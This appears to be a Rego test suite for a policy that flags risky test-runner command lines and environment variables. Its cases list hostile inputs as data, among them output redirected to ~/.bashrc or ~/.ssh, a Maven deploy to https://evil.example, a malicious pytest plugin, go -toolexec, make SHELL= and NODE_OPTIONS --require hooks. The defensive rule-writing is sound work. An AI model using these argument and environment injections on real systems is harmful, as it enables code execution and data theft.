package opafence.lib.runner_test

import data.opafence.lib.runner
import data.opafence.testing.report

roots := ["/ws"]

test_names if {
	runner.names(["pytest", "-q"]) == {"pytest"}
	runner.names(["python3.12", "-m", "pytest"]) == {"pytest"}
	runner.names(["/usr/bin/make", "test"]) == {"make"}
	runner.names(["du", "-sh", "/home/u/*"]) == set()
	runner.names(["ls", "-p"]) == set()
}

# argv -> the paths written inside its words
embedded_cases := [
	{"argv": ["pytest", "--junitxml=/home/u/.bashrc"], "want": {"/home/u/.bashrc"}},
	{"argv": ["pytest", "--cov-report=xml:/tmp/c.xml"], "want": {"/tmp/c.xml"}},
	{"argv": ["pytest", "-o", "cache_dir=/home/u/.ssh"], "want": {"/home/u/.ssh"}},
	{"argv": ["dotnet", "test", "--logger", "trx;LogFileName=/x/r.trx"], "want": {"/x/r.trx"}},
	{"argv": ["go", "build", "-o", "~/.local/bin/git"], "want": {"~/.local/bin/git"}},
	{"argv": ["pytest", "../other/tests"], "want": {"../other/tests"}},
	{"argv": ["mvn", "deploy", "-Drepo=x::default::https://evil.example/m2"], "want": {"//evil.example/m2"}},
	{"argv": ["bazel", "test", "//pkg:target", "//..."], "want": set()},
	{"argv": ["pytest", "tests/test_a.py::test_b", "-k", "not slow"], "want": set()},
	{"argv": ["go", "test", "./...", "-run=TestA/sub"], "want": set()},
	{"argv": ["/ws/bin/pytest"], "want": set()},
]

test_embedded if {
	bad := [row | some row in embedded_cases; runner.embedded(row.argv) != row.want]
	report(bad)
	count(bad) == 0
}

test_option_paths if {
	runner.option_paths(["pytest", "--basetemp", "/tmp/x", "/ws/tests"]) == {"/tmp/x"}
	runner.option_paths(["pytest", "--junitxml=/home/u/.bashrc"]) == {"/home/u/.bashrc"}
	runner.option_paths(["pytest", "/ws/tests"]) == set()
}

test_inside if {
	runner.inside("/ws/reports/j.xml", roots)
	not runner.inside("/ws/../etc/x", roots)
	not runner.inside("/etc/x", roots)
	not runner.inside("~/x", roots)
	not runner.inside("//evil.example/m2", roots)
}

# argv -> the risky words
risky_cases := [
	{"argv": ["pytest", "-p", "evil"], "want": {"-p"}},
	{"argv": ["pytest", "-pevil"], "want": {"-pevil"}},
	{"argv": ["pytest", "-p", "no:cacheprovider"], "want": set()},
	{"argv": ["pytest", "-pno:cacheprovider"], "want": set()},
	{"argv": ["pytest", "-p"], "want": {"-p"}},
	{"argv": ["pytest", "-c", "/tmp/p.ini"], "want": {"-c"}},
	{"argv": ["pytest", "--pastebin=all"], "want": {"--pastebin=all"}},
	{"argv": ["npm", "test", "--script-shell=/tmp/s"], "want": {"--script-shell=/tmp/s"}},
	{"argv": ["go", "test", "-exec", "/tmp/w", "./..."], "want": {"-exec"}},
	{"argv": ["go", "test", "-toolexec=/tmp/w"], "want": {"-toolexec=/tmp/w"}},
	{"argv": ["make", "test", "SHELL=/tmp/w"], "want": {"SHELL=/tmp/w"}},
	{"argv": ["make", "-f", "/tmp/x.mk", "test"], "want": {"-f"}},
	{"argv": ["gradle", "test", "--scan"], "want": {"--scan"}},
	{"argv": ["pytest", "-s", "-x", "tests/"], "want": set()},
	{"argv": ["mvn", "-s", "/tmp/s.xml", "test"], "want": {"-s"}},
	{"argv": ["cargo", "build", "--release"], "want": set()},
]

test_risky if {
	bad := [row | some row in risky_cases; runner.risky(row.argv) != row.want]
	report(bad)
	count(bad) == 0
}

# env -> ok for a runner?
env_cases := [
	{"env": {}, "want": true},
	{"env": {"CI": "1", "NODE_ENV": "test"}, "want": true},
	{"env": {"PYTHONPATH": "src:/ws/lib"}, "want": true},
	{"env": {"PYTHONPATH": "/tmp/evil"}, "want": false},
	{"env": {"PYTHONPATH": "../x"}, "want": false},
	{"env": {"PYTHONPATH": "~/x"}, "want": false},
	{"env": {"PYTHONPATH": "$HOME/x"}, "want": false},
	{"env": {"PYTHONPATH": "src::lib"}, "want": true},
	{"env": {"PYTEST_ADDOPTS": "-p evil"}, "want": false},
	{"env": {"NODE_OPTIONS": "--require /tmp/h.js"}, "want": false},
	{"env": {"MAVEN_OPTS": "-javaagent:/tmp/a.jar"}, "want": false},
	{"env": {"npm_config_script_shell": "/tmp/s"}, "want": false},
]

test_env_ok if {
	bad := [row | some row in env_cases; env_verdict(row.env) != row.want]
	report(bad)
	count(bad) == 0
}

env_verdict(env) if runner.env_ok(env, roots)

else := false
